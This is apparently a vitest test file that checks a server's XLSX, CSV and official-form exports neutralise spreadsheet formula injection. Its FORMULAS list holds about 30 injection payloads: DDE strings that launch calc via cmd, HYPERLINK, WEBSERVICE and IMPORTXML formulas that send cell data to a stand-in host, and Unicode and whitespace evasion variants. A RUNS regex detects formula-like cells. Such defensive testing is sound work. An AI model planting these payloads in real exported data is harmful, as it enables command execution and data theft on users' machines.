import { Writable } from 'node:stream'
import ExcelJS from 'exceljs'
import { csvLines } from 'server/export/csv.ts'
import { formBook } from 'server/export/official-form/form-book.ts'
import type { FormContent } from 'server/export/official-form/form-content.ts'
import { formLayout } from 'server/export/official-form/form-layout.ts'
import { releaseBook } from 'server/export/workbook/release-book.ts'
import { releaseZip } from 'server/export/workbook/release-csv.ts'
import { sheetRows } from 'server/export/workbook/sheet-rows.ts'
import { writeXlsx } from 'server/export/xlsx.ts'
import { FILE_LIMITS } from 'server/ingest/files/limits.ts'
import { readFile } from 'server/ingest/files/read-file.ts'
import { unzip } from 'server/ingest/files/unzip.ts'
import { describe, expect, it } from 'vitest'

/** Texts that a spreadsheet would run, or that try to slip past who looks for them. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x.example?"&A1,"open")',
  '=WEBSERVICE("http://x.example")',
  '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
  '=DDE("cmd","/C calc","x")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@A1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '　=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' ＝1+1',
  '=1+1,"x"',
  '="x";=1',
  '=1\n=2',
  '=A1&"\u202e"',
  '\u00a0=1+1',
  '=\u200b1',
  "'=1+1",
  '--1',
  '=-1',
]

/** How a cell that a spreadsheet would run begins: whitespace that it passes over, then a sign. */
const RUNS = /^[\s]*[=+\-@＝＋－＠]|^[\t\r]/

async function textsOf(bytes: Buffer): Promise<ExcelJS.CellValue[]> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(new Uint8Array(bytes).buffer)
  const values: ExcelJS.CellValue[] = []
  for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell(({ value }) => values.push(value)))
  return values
}

const expectPlain = (values: readonly ExcelJS.CellValue[]) => {
  for (const value of values) {
    expect(['string', 'number', 'boolean']).toContain(typeof value)
    if (typeof value === 'string') expect(value).not.toMatch(RUNS)
  }
}

const statement = (text: string) => [
  {
    sheet: 'statements',
    rows: JSON.stringify([
      { row: 2, project: 'a', topic: 'USE', text, problem: null, document: 'd', locator: 'x' },
    ]),
  },
]
const content = (text: string): FormContent => ({
  title: text,
  period: '（2024年度）',
  project: text,
  centralDepartments: text,
  localDepartments: text,
  fundUsers: text,
  funds: [
    {
      source: 'TOTAL',
      budget: { text: '-5', numeric: true },
      executed: { text, numeric: false },
      rate: text,
    },
  ],
  statements: [{ topic: 'USE', text, problem: text }],
  aims: text,
  achieved: text,
  indicators: [
    {
      level1: '产出指标',
      level2: '数量指标',
      name: text,
      target: { text, numeric: false },
      actual: { text: '-3.50', numeric: true },
      weight: { text: '5', numeric: true },
      score: { text: '5', numeric: true },
      reason: text,
    },
  ],
  remarks: [text],
})

it('are at least 25', () => expect(new Set(FORMULAS).size).toBeGreaterThanOrEqual(25))

describe.each(FORMULAS)('the text %j', (text) => {
  it('is no formula in a release as XLSX and CSV, and comes back as it was', async () => {
    const report = { report: 'r', sheets: sheetRows(statement(text)) }
    const book = await releaseBook([report], [['x', 'y']])
    expectPlain(await textsOf(book))
    const zip = await releaseZip([report], { readme: '', citation: '' }, new Date(0))
    const csv = (await unzip('r.zip', zip, FILE_LIMITS)).get('statements.csv')?.toString() ?? ''
    const [, , written = ''] = (csv.split('\r\n')[1] ?? '').split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    expect(written.replace(/^"/, '')).not.toMatch(RUNS)
    for (const bytes of [book, zip]) {
      const read = await readFile(bytes, 'r')
      // Space around a text is not kept: sheets are read trimmed.
      expect(read.raw.statements?.rows[0]?.cells[2]?.trim()).toBe(text.trim())
    }
  })

  it('is no formula in the official form, whose numbers stay numbers', async () => {
    const values = await textsOf(await formBook(formLayout(content(text)), { title: text, release: '1' }))
    expectPlain(values)
    expect(values).toContain(-5)
    expect(values).toContain(-3.5)
  })

  it('is no formula in an answer as CSV and XLSX', async () => {
    const data = { rows: [{ text, number: -5 }] }
    const [, line = ''] = [...csvLines(data)]
    expect(line.replace(/^"/, '')).not.toMatch(RUNS)
    expect(line).toMatch(/,-5\r\n$/)
    const chunks: Buffer[] = []
    const sink = new Writable({
      write(chunk, _encoding, done) {
        chunks.push(Buffer.from(chunk))
        done()
      },
    })
    await writeXlsx(sink, data, [[text, text]])
    expectPlain(await textsOf(Buffer.concat(chunks)))
  })
})
